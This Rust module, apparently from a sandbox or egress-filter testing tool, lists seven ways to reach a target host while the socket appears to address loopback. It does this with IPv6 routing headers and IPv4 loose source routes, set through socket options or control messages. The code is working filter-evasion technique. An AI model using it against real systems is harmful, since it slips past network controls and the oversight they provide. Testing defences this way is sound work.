//! Loopback in the hook, the target on the wire: IPv6 routing headers, unprivileged, and IPv4 source routes, for which
//! newer kernels ask CAP_NET_RAW.

use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr};
use std::os::fd::{AsFd, AsRawFd};

use crate::Vector;
use crate::outcome::{Attempt, Done, Step, Stop};
use crate::target::{
    Target, control_message, datagram_to, send_message, set_option, sockaddr_bytes, stream_to, tcp_for,
    udp_for,
};

pub(crate) const VECTORS: &[Vector] = &[
    ("rthdr6_sockopt_udp", |t| sockopt6(t, false)),
    ("rthdr6_sockopt_tcp", |t| sockopt6(t, true)),
    ("rthdr6_cmsg", |t| cmsg6(t, &segment_routing(t))),
    ("rthdr6_cmsg_type2", |t| cmsg6(t, &home_address(t))),
    ("srcroute4_sockopt_udp", |t| sockopt4(t, false)),
    ("srcroute4_sockopt_tcp", |t| sockopt4(t, true)),
    ("srcroute4_cmsg", cmsg4),
];

/// A segment routing header (RFC 8754): segments in reverse order, the target the first to visit. The kernel
/// writes the socket's own destination over segment 0.
fn segment_routing(t: &Target) -> Vec<u8> {
    let mut header = vec![0, 4, 4, 1, 1, 0, 0, 0];
    header.extend_from_slice(&Ipv6Addr::LOCALHOST.octets());
    header.extend_from_slice(&t.v6.octets());
    header
}

/// The mobility routing header (RFC 6275, 6.4).
fn home_address(t: &Target) -> Vec<u8> {
    let mut header = vec![0, 2, 2, 1, 0, 0, 0, 0];
    header.extend_from_slice(&t.v6.octets());
    header
}

fn home6(t: &Target) -> SocketAddr {
    (Ipv6Addr::LOCALHOST, t.port()).into()
}

fn home4(t: &Target) -> SocketAddr {
    (Ipv4Addr::LOCALHOST, t.port()).into()
}

fn sockopt6(t: &Target, is_stream: bool) -> Attempt {
    let socket = if is_stream { tcp_for(&home6(t))? } else { udp_for(&home6(t))? };
    set_option(socket.as_raw_fd(), libc::IPPROTO_IPV6, libc::IPV6_RTHDR, &segment_routing(t))
        .step("setsockopt IPV6_RTHDR")?;
    if is_stream { stream_to(t, &socket, home6(t)) } else { datagram_to(t, &socket, home6(t)) }
}

fn cmsg6(t: &Target, header: &[u8]) -> Attempt {
    let socket = udp_for(&home6(t))?;
    let control = control_message(libc::IPPROTO_IPV6, libc::IPV6_RTHDR, header);
    match send_message(socket.as_fd(), &sockaddr_bytes(home6(t)), &t.payload(), &control, 0) {
        // Without CONFIG_IPV6_MIP6 the kernel knows no routing header here (ip6_datagram_send_ctl).
        Err(error) if error.raw_os_error() == Some(libc::EINVAL) => {
            Err(Stop::Impossible("the kernel takes no such header in a control message".to_owned()))
        }
        other => other.step("sendmsg IPV6_RTHDR").map(|_| Done::Sent("by a control message".to_owned())),
    }
}

/// Loose source and record route by way of the target (RFC 791).
fn source_route(t: &Target) -> [u8; 8] {
    let [a, b, c, d] = t.v4.octets();
    [131, 7, 4, a, b, c, d, 0]
}

fn sockopt4(t: &Target, is_stream: bool) -> Attempt {
    let socket = if is_stream { tcp_for(&home4(t))? } else { udp_for(&home4(t))? };
    set_option(socket.as_raw_fd(), libc::IPPROTO_IP, libc::IP_OPTIONS, &source_route(t))
        .step("setsockopt IP_OPTIONS")?;
    if is_stream { stream_to(t, &socket, home4(t)) } else { datagram_to(t, &socket, home4(t)) }
}

fn cmsg4(t: &Target) -> Attempt {
    let socket = udp_for(&home4(t))?;
    let control = control_message(libc::IPPROTO_IP, libc::IP_RETOPTS, &source_route(t));
    send_message(socket.as_fd(), &sockaddr_bytes(home4(t)), &t.payload(), &control, 0)
        .step("sendmsg IP_RETOPTS")?;
    Ok(Done::Sent("source route in a control message".to_owned()))
}
